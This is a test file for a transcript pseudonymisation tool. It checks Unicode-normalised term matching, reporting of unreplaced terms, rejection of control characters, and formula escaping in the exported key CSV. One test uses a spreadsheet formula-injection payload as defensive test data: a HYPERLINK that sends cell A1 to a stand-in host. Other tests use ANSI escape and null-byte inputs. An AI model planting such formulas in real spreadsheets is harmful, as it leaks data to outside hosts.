"""Sensitive terms however they were typed: NFD terms are found in NFC transcripts, apply keeps
and names terms it did not replace, control characters are refused (and stripped from
pseudonyms stored before), and the key file never holds a formula."""

from __future__ import annotations

import csv
import re
import unicodedata

import pytest
from sqlalchemy import select

from app.core.privacy.replace import apply_permanently, export_text
from app.core.privacy.terms import add_term, pseudonym_table, remove_term, terms
from app.errors import InvalidInput
from app.models import Document
from tests.conftest import project_digest
from tests.core.privacy.privacy_fixtures import add_document, snapshot

NFD_ASE = unicodedata.normalize("NFD", "Åse")  # "A" + combining ring above + "se"
TEXT = "Intervjuer: Hei Åse.\nDeltaker 1: Åses mor bor på Røros."  # stored text is NFC


def test_a_term_typed_in_nfd_is_stored_in_nfc_and_replaced(project):
    assert NFD_ASE != "Åse" and len(NFD_ASE) == 4
    with project.write() as s:
        add_document(s, "fg1", TEXT, codings=[(16, 19)])
        t = add_term(s, NFD_ASE)
        add_term(s, unicodedata.normalize("NFD", "Røros"), kind="place")
    assert t.term == "Åse"
    with project.read() as s:
        assert {x.term for x in terms(s)} == {"Åse", "Røros"}
        assert export_text(s, TEXT) == ("Intervjuer: Hei [Navn 1].\n"
                                        "Deltaker 1: [Navn 1]s mor bor på [Sted 1].")
    with pytest.raises(InvalidInput, match="already listed"):  # the same name, typed in NFC
        with project.write() as s:
            add_term(s, "Åse")
    with project.write() as s:
        assert remove_term(s, NFD_ASE).term == "Åse"  # and removed however it is typed


def test_a_term_stored_in_nfd_by_an_older_version_is_matched_and_cleared(project, tmp_path):
    with project.write() as s:
        add_document(s, "fg1", TEXT)
        s.execute(pseudonym_table.insert().values(term=NFD_ASE, pseudonym="[Navn 1]",
                                                  kind="name"))
    with project.write() as s:
        report = apply_permanently(s, tmp_path / "key.csv")
    assert report.replacements == 2 and report.unreplaced == []
    with project.read() as s:
        assert "Åse" not in s.scalar(select(Document.text))
        assert terms(s) == []


def test_apply_keeps_and_names_the_terms_it_did_not_replace(project, tmp_path):
    with project.write() as s:
        add_document(s, "fg1", TEXT)
        add_term(s, "Åse")
        add_term(s, "Kari Nordmann")
        add_term(s, "Ålesund", kind="place")
    with project.write() as s:
        report = apply_permanently(s, tmp_path / "key.csv")
    assert report.replacements == 2
    assert report.unreplaced == ["Kari Nordmann", "Ålesund"]
    assert report.as_json()["unreplaced"] == ["Kari Nordmann", "Ålesund"]
    assert "2 sensitive terms were not found" in report.unreplaced_message()
    assert report.unreplaced_message().endswith(": Kari Nordmann, Ålesund.")
    with project.read() as s:
        assert sorted(t.term for t in terms(s)) == ["Kari Nordmann", "Ålesund"]


def test_apply_that_replaces_nothing_changes_nothing(project, tmp_path):
    with project.write() as s:
        add_document(s, "fg1", TEXT)
        add_term(s, "Kari")
    before = snapshot(project)
    with pytest.raises(InvalidInput, match="nothing was replaced and the terms stay in the list"):
        with project.write() as s:
            apply_permanently(s, tmp_path / "key.csv")
    assert snapshot(project) == before
    assert not (tmp_path / "key.csv").exists()


@pytest.mark.parametrize("term, pseudonym, code", [
    ("Kari\x1b[31m", None, "U+001B"),
    ("Kari\x00", None, "U+0000"),
    ("Kari", "[Navn\x1b1]", "U+001B"),
    ("Kari", "P\x7f", "U+007F"),
    ("Kari", "P\x85", "U+0085"),
])
def test_control_characters_are_refused(project_location, term, pseudonym, code):
    from app.core.project import Project

    where = project_location()
    before = project_digest(where)
    with Project.open(where) as p:
        message = re.escape(f"invisible control character ({code})")
        with pytest.raises(InvalidInput, match=message):
            with p.write() as s:
                add_term(s, term, pseudonym)
    assert project_digest(where) == before
    with Project.open(where) as p:  # tabs and line breaks are still white space
        with p.write() as s:
            assert add_term(s, "Kari\tNordmann\n", "Ola\r\nJensen").pseudonym == "Ola Jensen"
        with p.read() as s:
            assert [t.term for t in terms(s)] == ["Kari Nordmann"]


def test_a_pseudonym_stored_with_a_control_character_is_read_without_it(project):
    with project.write() as s:
        add_document(s, "fg1", TEXT)
        s.execute(pseudonym_table.insert().values(term="Åse", pseudonym="[Navn\x1b 1]",
                                                  kind="name"))
    with project.read() as s:
        assert [t.pseudonym for t in terms(s)] == ["[Navn 1]"]
        assert export_text(s, "Hei Åse.") == "Hei [Navn 1]."


def test_the_key_file_never_holds_a_formula(project, tmp_path):
    with project.write() as s:
        add_document(s, "fg1", "Hei Kari og Per og Ola.")
        add_term(s, "Kari", '=HYPERLINK("http://x.example/?"&A1,"klikk")')
        add_term(s, "Per", "@SUM(1)")
        add_term(s, "Ola", "-Jon")
    key = tmp_path / "key.csv"
    with project.write() as s:
        apply_permanently(s, key)
    with key.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert sorted(r[1] for r in rows[1:]) == [
        "'-Jon", '\'=HYPERLINK("http://x.example/?"&A1,"klikk")', "'@SUM(1)"]
    with project.read() as s:  # the transcript itself gets the pseudonym as typed
        assert s.scalar(select(Document.text)) == (
            'Hei =HYPERLINK("http://x.example/?"&A1,"klikk") og @SUM(1) og -Jon.')
